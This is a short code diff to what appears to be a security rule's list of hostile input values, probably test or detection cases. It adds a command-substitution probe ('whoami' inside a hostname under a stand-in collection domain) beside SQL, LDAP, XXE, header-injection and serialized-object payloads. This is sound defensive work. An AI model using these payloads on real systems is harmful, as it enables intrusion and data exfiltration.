@@ -58,6 +58,7 @@ export default defineRule({
     value("' OR 1=1 --"),
     value('(uid=*))(|(uid=*'),
     value('set +o history; make'),
+    value('`whoami`.a1.collect.example'),
     value('gASVOAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU'),
     value('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'),
     value('a@b.example%0d%0aBcc:c@d.example'),
